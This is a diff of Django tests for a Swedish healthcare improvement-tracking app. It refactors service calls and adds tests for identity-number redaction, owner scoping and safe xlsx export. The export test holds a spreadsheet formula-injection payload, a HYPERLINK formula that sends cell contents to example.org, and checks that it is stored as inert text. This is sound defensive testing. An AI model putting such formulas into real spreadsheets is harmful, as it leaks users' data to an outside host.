@@ -10,6 +10,7 @@ from django.urls import reverse
 from django.utils import timezone
 
 from lagesbild.calc.periods import Period
+from lagesbild.core.actor import Actor
 from lagesbild.improvement import services
 from lagesbild.improvement.models import Action, Analysis, FollowUp
 
@@ -135,8 +136,8 @@ def test_measured_value_block_and_prefilled_follow_up(client, users, org, measur
     client.force_login(users.kir_manager)
     page = text(client.get(cycle_url(measure)))
     assert f'<span class="measured">72,5{NB}%</span> 2025 kv 1 · 2024 kv 4: 80,0{NB}% (försämring)' in page
-    analysis = services.record_analysis(users.kir_manager, measure, org.kir, Period.parse("2025-Q1"), "Analys.")
-    action = services.add_action(users.kir_manager, analysis, "Åtgärd", "Chef", TODAY)
+    analysis = services.record_analysis(measure, org.kir, Period.parse("2025-Q1"), "Analys.", actor=Actor(users.kir_manager))
+    action = services.add_action(analysis, "Åtgärd", "Chef", TODAY, actor=Actor(users.kir_manager))
     page = text(client.get(cycle_url(measure)))
     assert f'placeholder="72,5{NB}% (uppmätt)"' in page
     # Empty values are measured on save.
@@ -148,7 +149,7 @@ def test_measured_value_block_and_prefilled_follow_up(client, users, org, measur
 
 
 def test_reader_sees_but_cannot_change(client, users, org, measure):
-    services.record_analysis(users.kir_manager, measure, org.kir, Period.parse("2025-Q1"), "Kirurgens analys.")
+    services.record_analysis(measure, org.kir, Period.parse("2025-Q1"), "Kirurgens analys.", actor=Actor(users.kir_manager))
     client.force_login(users.reader)
     page = text(client.get(cycle_url(measure)))
     assert "Kirurgens analys." in page and "Spara analysen" not in page and "Lägg till åtgärd" not in page
@@ -160,8 +161,8 @@ def test_reader_sees_but_cannot_change(client, users, org, measure):
 
 
 def test_manager_cannot_touch_another_units_analysis(client, users, org, measure):
-    analysis = services.record_analysis(users.med_manager, measure, org.med, Period.parse("2025-Q1"), "Medicin.")
-    action = services.add_action(users.med_manager, analysis, "Medicinens åtgärd", "Chef", TODAY)
+    analysis = services.record_analysis(measure, org.med, Period.parse("2025-Q1"), "Medicin.", actor=Actor(users.med_manager))
+    action = services.add_action(analysis, "Medicinens åtgärd", "Chef", TODAY, actor=Actor(users.med_manager))
     client.force_login(users.kir_manager)
     assert client.post(cycle_url(measure, unit="08-F1-MED", suffix="analys/"), {"text": "Kirurgen skriver"}).status_code == 403
     # Objects outside the subtree are not found at all.
@@ -174,11 +175,11 @@ def test_manager_cannot_touch_another_units_analysis(client, users, org, measure
 
 def test_overdue_list_is_scoped(client, users, org, measure):
     q1 = Period.parse("2025-Q1")
-    kir = services.record_analysis(users.kir_manager, measure, org.kir, q1, "K")
-    med = services.record_analysis(users.med_manager, measure, org.med, q1, "M")
-    services.add_action(users.kir_manager, kir, "Kirurgens sena", "A", TODAY - timedelta(days=5))
-    services.add_action(users.kir_manager, kir, "Kirurgens klara", "A", TODAY - timedelta(days=5), status="klar")
-    services.add_action(users.med_manager, med, "Medicinens sena", "B", TODAY - timedelta(days=2))
+    kir = services.record_analysis(measure, org.kir, q1, "K", actor=Actor(users.kir_manager))
+    med = services.record_analysis(measure, org.med, q1, "M", actor=Actor(users.med_manager))
+    services.add_action(kir, "Kirurgens sena", "A", TODAY - timedelta(days=5), actor=Actor(users.kir_manager))
+    services.add_action(kir, "Kirurgens klara", "A", TODAY - timedelta(days=5), status="klar", actor=Actor(users.kir_manager))
+    services.add_action(med, "Medicinens sena", "B", TODAY - timedelta(days=2), actor=Actor(users.med_manager))
     client.force_login(users.kir_manager)
     page = text(client.get(reverse("improvement:overdue")))
     assert "Kirurgens sena" in page and "Kirurgens klara" not in page and "Medicinens sena" not in page
@@ -192,8 +193,8 @@ def test_overdue_list_is_scoped(client, users, org, measure):
 
 def test_index_lists_recent_analyses_in_scope(client, users, org, measure):
     q1 = Period.parse("2025-Q1")
-    services.record_analysis(users.kir_manager, measure, org.kir, q1, "K")
-    services.record_analysis(users.med_manager, measure, org.med, q1, "M")
+    services.record_analysis(measure, org.kir, q1, "K", actor=Actor(users.kir_manager))
+    services.record_analysis(measure, org.med, q1, "M", actor=Actor(users.med_manager))
     client.force_login(users.med_manager)
     page = text(client.get(reverse("improvement:index")))
     assert "Medicinkliniken" in page and "Kirurgkliniken" not in page
@@ -204,8 +205,73 @@ def test_cycle_summary_partial_for_the_dashboard(users, org, measure):
     tpl = Template("{% load improvement %}{% cycle_summary measure unit period %}")
     html = re.sub(r"[ \t\r\n]+", " ", tpl.render(Context({"measure": measure, "unit": org.kir, "period": q1})))
     assert "Ingen analys för 2025 kv 1." in html and 'href="/forbattring/test-riskbedomning-24h/08-F1-KIR/2025-Q1/"' in html
-    analysis = services.record_analysis(users.kir_manager, measure, org.kir, q1, "Nattens rutiner brister.")
-    services.add_action(users.kir_manager, analysis, "A", "A", TODAY - timedelta(days=1))
-    services.add_action(users.kir_manager, analysis, "B", "B", TODAY + timedelta(days=1))
+    analysis = services.record_analysis(measure, org.kir, q1, "Nattens rutiner brister.", actor=Actor(users.kir_manager))
+    services.add_action(analysis, "A", "A", TODAY - timedelta(days=1), actor=Actor(users.kir_manager))
+    services.add_action(analysis, "B", "B", TODAY + timedelta(days=1), actor=Actor(users.kir_manager))
     html = re.sub(r"[ \t\r\n]+", " ", tpl.render(Context({"measure": measure, "unit": org.kir, "period": q1})))
     assert "Nattens rutiner brister." in html and "2 öppna åtgärder" in html and "1 försenad<" in html
+
+
+PNR = "19121212-1212"
+
+
+def test_an_identity_number_typed_into_the_forms_is_removed_with_a_notice(client, users, org, measure):
+    from lagesbild.core.personal import REPLACEMENT
+    from lagesbild.improvement.services import IDENTITY_NUMBER_NOTICE
+
+    client.force_login(users.kir_manager)
+    r = client.post(cycle_url(measure, suffix="analys/"), {"text": f"Patient {PNR} föll."}, follow=True)
+    assert r.status_code == 200
+    page = text(r)
+    assert IDENTITY_NUMBER_NOTICE in page and PNR not in page
+    assert Analysis.objects.get().text == f"Patient {REPLACEMENT} föll."
+    # The next page view no longer shows the notice; text without a number gets none.
+    assert IDENTITY_NUMBER_NOTICE not in text(client.get(cycle_url(measure)))
+    r = client.post(cycle_url(measure, suffix="analys/"), {"text": "Ingen patient nämnd, 2025-03-01."}, follow=True)
+    assert IDENTITY_NUMBER_NOTICE not in text(r)
+
+    # With htmx the notice is in the changed part of the page.
+    r = client.post(cycle_url(measure, suffix="atgarder/"), {
+        "a-title": "Ring 121212-1212", "a-owner_name": "Chef", "a-due_date": TODAY.isoformat()}, **HX)
+    assert r.status_code == 200 and text(r).count(IDENTITY_NUMBER_NOTICE) == 1
+    action = Action.objects.get()
+    assert action.title == f"Ring {REPLACEMENT}"
+    r = client.post(reverse("improvement:follow_up_add", args=[action.pk]), {
+        f"f{action.pk}-date": "2025-10-01", f"f{action.pk}-effect": "ja", f"f{action.pk}-comment": f"Se {PNR}"}, **HX)
+    assert r.status_code == 200 and IDENTITY_NUMBER_NOTICE in text(r)
+    assert FollowUp.objects.get().comment == f"Se {REPLACEMENT}"
+
+
+def test_the_action_form_refuses_an_owner_outside_the_scope(client, users, org, measure):
+    client.force_login(users.kir_manager)
+    client.post(cycle_url(measure, suffix="analys/"), {"text": "Analys."})
+    r = client.post(cycle_url(measure, suffix="atgarder/"), {
+        "a-title": "Rond", "a-owner_name": "Chef", "a-due_date": TODAY.isoformat(),
+        "a-owner": str(users.med_manager.pk)})
+    assert r.status_code == 422 and not Action.objects.exists()
+    owner_field = re.search(r'<select name="a-owner".*?</div>', r.content.decode(), re.S).group(0)
+    assert '<p class="error">' in owner_field
+    assert f'value="{users.med_manager.pk}"' not in owner_field
+
+
+def test_overdue_export_writes_user_text_as_text(client, users, org, measure):
+    import io
+
+    from openpyxl import load_workbook
+
+    formula = '=HYPERLINK("http://example.org/?m="&A1,"Öppna")'
+    analysis = services.record_analysis(measure, org.kir, Period.parse("2025-Q1"), "A", actor=Actor(users.kir_manager))
+    services.add_action(analysis, formula, "+Chef", TODAY - timedelta(days=3), actor=Actor(users.kir_manager))
+    client.force_login(users.kir_manager)
+    page = text(client.get(reverse("improvement:overdue")))
+    r = client.get(reverse("improvement:overdue"), {"format": "xlsx"})
+    assert r.status_code == 200
+    ws = load_workbook(io.BytesIO(r.content)).active
+    header = next(i for i, row in enumerate(ws.iter_rows(values_only=True), start=1) if row[0] == "Åtgärd")
+    assert [c.value for c in ws[header]] == ["Åtgärd", "Enhet", "Mått", "Ansvarig", "Klar senast", "Dagar sen",
+                                             "Status"]
+    cells = ws[header + 1]
+    assert [(c.value, c.data_type) for c in (cells[0], cells[3])] == [(formula, "s"), ("+Chef", "s")]
+    assert [cells[1].value, cells[5].value] == ["Kirurgkliniken", 3]
+    # The page shows the same row.
+    assert "Kirurgkliniken" in page and "2025 kv 1" in page and '<td class="num">3</td>' in page
